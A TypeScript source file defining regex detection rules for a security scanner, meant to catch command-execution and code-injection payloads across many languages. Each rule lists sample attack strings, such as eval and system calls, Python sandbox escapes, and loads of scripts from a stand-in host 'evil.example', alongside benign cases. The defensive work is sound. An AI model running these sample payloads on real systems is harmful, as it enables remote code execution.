import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

/** A member of something, in whatever language: `a.b`, `A::b`, `a->b`, `a/b`; a member may be called. */
const MEMBER = String.raw`(?:[\w$]{1,32}(?:\([^()"'\n]{0,32}\))?\s?(?:\.|::|->|\?\.|:|\/)\s?)`
/** Names of functions that run or evaluate what they are given, whoever has them ... */
const RUNS = String.raw`(?:\w{1,16}_)?(?:system\d?|popen\d?|shell_?exec\w{0,8}|eval_\w{1,12}|loadstring|dlopen|getruntime|syscall)`
/** ... and those that databases, browsers, expressions and games have as members too. */
const RUNS_ALONE = String.raw`(?:\w{1,16}_)?(?:exec(?:ute\w{0,8}|[lv]\w{0,3}|sync|file\w{0,4}|script|_\w{1,12})?|eval(?:uate\w{0,8}|script)?|spawn\w{0,12}|run_?(?:command|shell|cmd|program|process)|shell_?command|load_?library)`
/** Members of what is named after a process or a shell. */
const OF_PROCESS = String.raw`(?:(?:sub_?|child_)?process|\w{0,12}shell|sys|syscall|kernel|runtime|posix|libc)(?:\([^()"'\n]{0,32}\))?\s?(?:\.|::|->|\?\.|:|\/)\s?`
const RUNS_OF_PROCESS = '(?:run|start|command|shell|process|invoke)'
/** Members that most programs have: what they are given must be a command. */
const MAY_RUN = String.raw`(?:run|start|command|shell|process\w{0,10}|open_?\w{0,8}|read_?(?:file|all|to_string|line)\w{0,10}|load_?file|invoke|compile|deserialize|unserialize|unmarshal|slurp)`
const COMMAND = String.raw`\s?\(?\s{0,2}(?:\[\s{0,2})?[bru]?["'\x60]\s?(?:\/(?:usr\/)?s?bin\/|cmd(?:\.exe)?\b|calc\b|id(?=["'\x60;| ])|whoami\b|uname\b|cat\s|ls\s[-/]|curl\s|wget\s|nc\s|ping\s-|(?:ba|z|da|k)?sh\s-|powershell\b|touch\s|nslookup\s|__import__|import\s(?:os|sys|socket|subprocess)\b|os\.)`
/** What a program is, or what it is to read, as the first argument. */
const ARGUMENT = String.raw`(?:(?:\.|::)(?:new|run|call|output|start))?!?(?:\(\s{0,2}(?:[bru]?["'\x60]|\[\s{0,2}["']|new\s|:\w))`
const REST = String.raw`[^\n]{0,200}(?:[)\]}"'\x60;!]|\)\.\w{1,24})\s{0,4}(?:\/\/|#|--)?\s{0,2}$`
const LEAD = String.raw`^[\s({[<%=@!;:?&-]{0,6}(?:(?:return|await|new|print|puts|echo|lambda)\b[\s:]{1,3}){0,2}(?!(?:self|this|cls|re|rx|regexp?|pattern)\.)`

/** Functions of PHP that no interface offers by name, and names of what is called. */
const FUNCTION_NAME =
  /^\s{0,2}\\?(?:passthru|shell_exec|phpinfo|php_uname|call_user_func(?:_array)?|proc_open|create_function|pcntl_exec|file_(?:get|put)_contents|var_dump|print_r|unserialize|move_uploaded_file|highlight_file|show_source|readfile)\s{0,2}$/
const CALLED_NAME = /(?:^|[_.[-])(?:callback|callable|func|hook)\]?$/

function findNamedFunction(reading: Reading): Span | undefined {
  const { lower } = reading
  const isCalled = FUNCTION_NAME.test(lower) && CALLED_NAME.test(reading.name)
  return isCalled ? { start: 0, end: lower.length } : undefined
}

/**
 * What leads from a value to the program that evaluates it, by the shape that it has in any language, not by
 * the names of one.
 */
export const actingCallRules: readonly Rule[] = [
  // Nothing but a call that runs, evaluates or opens its argument.
  pattern(
    'code/acting-call',
    new RegExp(
      `${LEAD}(?:${MEMBER}{0,6}${RUNS}${ARGUMENT}|${RUNS_ALONE}${ARGUMENT}|${MEMBER}{1,6}${RUNS}\\s{1,2}["'\\x60]\\w|${MEMBER}{0,4}${OF_PROCESS}${MEMBER}{0,2}(?:${RUNS}|${RUNS_ALONE}|${RUNS_OF_PROCESS})(?:${ARGUMENT}|\\s{1,2}["'\\x60]\\w)|${MEMBER}{1,6}(?:${RUNS_ALONE}|${MAY_RUN})${COMMAND})${REST}`,
    ),
    {
      score: 5,
      bare: true,
      quotable: true,
      atStart: true,
      unlessNamed: /code|script|snippet|expression|formula|quer(?:y|ies)|sql|source|test|handler/,
      chars: CHAR.apostrophe | CHAR.quote | CHAR.backtick,
      words: 0,
      attacks: [
        'Code.eval_string("System.cmd(\\"id\\",[])")',
        'Sys.command "id"',
        'Process().run("id")',
        'std::process::Command::new("id")',
        "ctypes.CDLL(None).system(b'id')",
        'new GroovyShell().evaluate("x")',
        'scala.sys.process.Process("id").!',
      ],
      benign: [
        'exec("x") is a bad idea, use a list',
        'JSON.parse("1")',
        'moment("2020").format("YYYY")',
        'evaluation ("final")',
        'the system ("as a whole")',
        "document.querySelector('a')",
        'Run "npm install"',
        "json.loads('{}')",
        "self.run_command('egg_info')",
        "loader.load('file')",
        "https://a.example/run('x')",
        'db.exec("vacuum")',
        "page.evaluate('document.title')",
        're.compile("a+b")',
        'regex.exec("id")',
        "app.run('localhost')",
        "dialog.open('settings')",
        "program.command('build')",
        'System.loadLibrary("native")',
        "shell.openExternal('https://a.example')",
        'Executive("Suite")',
      ],
    },
  ),
  // The same in Lisp, where the name stands inside of the brackets, and in Tcl.
  pattern(
    'code/acting-list',
    /^\s{0,4}\(\s{0,2}(?:[\w.-]{1,32}[/:]{1,2})?(?!(?:with-)?eval-(?:when|after)|load-file)(?:[\w-]{1,20}-)?\b(?:exec|eval|shell|system|sh|spawn|run-program|run-process|call-process|start-process|slurp|load-file)\b(?:-[\w-]{1,20})?[*!]?\s{1,2}["'(][^\n]{0,200}\)\s{0,4}$|^\s{0,4}\[\s{0,2}(?:exec\s{1,2}(?:id|whoami|uname|cat\s|ls\b|\/bin\/)|open\s{1,2}["{]?\|\w)[^\n]{0,80}\]\s{0,2}$|\bclojure\.java\.shell(?:\/sh\b|\s{1,2}:(?:only|refer|as|use)\b)/,
    {
      score: 5,
      bare: true,
      quotable: true,
      chars: CHAR.paren | CHAR.bracket,
      words: 0,
      attacks: [
        '(shell-command "id")',
        '(eval (read-string "x"))',
        '(do (use \'[clojure.java.shell :only [sh]]) (sh "id"))',
        '[exec id]',
        '[open |id]',
      ],
      benign: [
        '(system as "a whole")',
        '[Exec Summary]',
        '[open | closed]',
        '(a "b")',
        'clojure.java.shell tutorial',
        '[clojure.java.io :as io]',
        "(eval-when-compile (require 'cl))",
        "(with-eval-after-load 'org (setq a 1))",
      ],
    },
  ),
  // Names that only an interpreter has, asked of an object; and what looks at a program from the inside.
  pattern(
    'code/inner-name',
    /%\(\w{1,24}\.__\w{2,20}__|\{\w{1,24}\.__(?:init|globals|subclasses|mro|bases?|builtins)__|^(?!super\b)\s{0,4}[\w.]{0,32}(?:\(\s{0,2}\)|\[\]|\{\}|''|"")\.__(?:class|bases?|mro|subclasses|globals|builtins|import|init|dict|getattribute|reduce(?:_ex)?)__\s{0,4}$|\bgetattr\s?\([^)\n]{0,60}["'(]__(?:globals|builtins|import|subclasses|mro|bases?)__|\btype\s?\(\s?["']\w{0,12}["']\s?,\s?\([^()\n]{0,12}\)\s?,\s?\{\s?["']__(?!(?:init|doc|module|slots|repr|str|call|eq|hash)__)|\bobjectspace\.(?:each_object(?!\(\w{1,40}\)(?:\s?$|[.,;\s]))|_id2ref)|(?:^|[=%{#]\s{0,2})instance_variable_get\s?\(|\bnew\s{1,4}\\?reflection(?:function|method)\s?\(\s?["']|\bget(?:class|type)\(\s?\)\s?\.\s?getprotectiondomain|\?api\.\w|\bclass\.protectiondomain\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren | CHAR.bracket | CHAR.quote | CHAR.apostrophe | CHAR.brace,
      words: 0,
      attacks: [
        'input().__class__',
        '%(x.__class__)s',
        "type('',(),{'__del__':lambda s:print(1)})()",
        "(new ReflectionFunction('system'))->invoke('id')",
        "getattr(pow,Word('__globals__'))",
        'ObjectSpace.each_object{|x|x}',
        'instance_variable_get(:@secret)',
        '[#assign x=y?api.class.protectionDomain]',
      ],
      benign: [
        'self.__class__ is its type',
        'super().__init__(a)',
        'type(a).__dict__ or {}',
        'def __init__(self):',
        'getattr(obj, "__dict__", None)',
        'getattr(f, "__name__", getattr(f, "__class__"))',
        "type('Bag', (), {'a': 1})",
        'f"<{self.__class__.__name__}>"',
        'https://a.example/v1?api=1',
        'type("a")',
        'type("X", (), {"__init__": f})',
        'obj.instance_variable_get(:@a)',
        'ObjectSpace.each_object(Class)',
        '[].__len__',
      ],
    },
  ),
  // A function of a type of .NET, named in full.
  pattern(
    'code/static-type',
    /\[(?:system\.)?(?:net|io|reflection|diagnostics|runtime|management|codedom|activator|directoryservices|appdomain)(?:\.\w{2,32}){1,5}(?<!io\.path|net\.ipaddress|\.stopwatch)\]::(?!exists|new\b)\w{2,40}\s?\(/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.bracket,
      words: 0,
      attacks: [
        ";[Net.Dns]::GetHostAddresses('evil.example')",
        '[Reflection.Assembly]::Load($b)',
        "[IO.File]::ReadAllText('x')",
      ],
      benign: [
        '[System.Math]::Round(1.5)',
        '[math]::Round(1)',
        '[a.b]: c()',
        '[System.Guid]::NewGuid()',
        '[System.IO.Path]::Combine($a, $b)',
        '[System.IO.File]::Exists("x")',
        '[System.Collections.ArrayList]::new()',
        '[System.Windows.Forms.MessageBox]::Show("x")',
        '[System.Diagnostics.Stopwatch]::StartNew()',
      ],
    },
  ),
  // Code where the runtime compiles it: a closure as the value of an annotation, a script from elsewhere.
  pattern(
    'code/compiled-value',
    /@(?:groovy\.[\w.]{1,40}\.)?\w{2,32}\s?\(\s?value\s?=\s?\{\s{0,2}(?![\w.]{1,80}\s?(?:[,}]|$))\w|(?:^|[;{(]\s?)(?:load|dofile|require|include|import)\s?\(\s?["'](?:https?|ftp|nashorn|classpath|jar|data|file):|\bopen\s?\(\s?\w{1,16}\s?,\s?["'][^"'\n|]{0,60}[\w/]\s?\|\s{0,2}["']|\bsend\s?\(\s?:(?:system|exec|eval|instance_eval|class_eval|spawn|syscall)\b|\bwebassembly\.\w{3,24}\s?\(\s?fetch\s?\(\s?["'\x60]?(?:https?:)?\/\//,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren,
      words: 0,
      attacks: [
        '@groovy.transform.ASTTest(value={assert 1})',
        'load("http://evil.example/x.js")',
        'load("nashorn:mozilla_compat.js")',
        'open(F,"id|");print <F>',
        "send(:system,'id')",
        "WebAssembly.compileStreaming(fetch('//evil.example'))",
      ],
      benign: [
        '@Column(value = "a")',
        "require('fs')",
        '@Import(value = {One.class, Other.class})',
        'source("https://a.example/a.R")',
        'WebAssembly.instantiateStreaming(fetch("a.wasm"))',
        "import('./a.js')",
        'open(f, "r")',
        'send(:name)',
        'load (heavy)',
      ],
    },
  ),
  {
    id: 'code/named-function',
    family: 'code',
    score: 5,
    quotable: false,
    atStart: true,
    chars: 0,
    words: WORD.php,
    places: ['query', 'body', 'cookie'],
    needs: [FUNCTION_NAME],
    find: findNamedFunction,
    // By the name of the parameter: the cases are in `test/acting-calls.test.ts`.
    attacks: [],
    benign: ['phpinfo', 'var_dump'],
  },
]
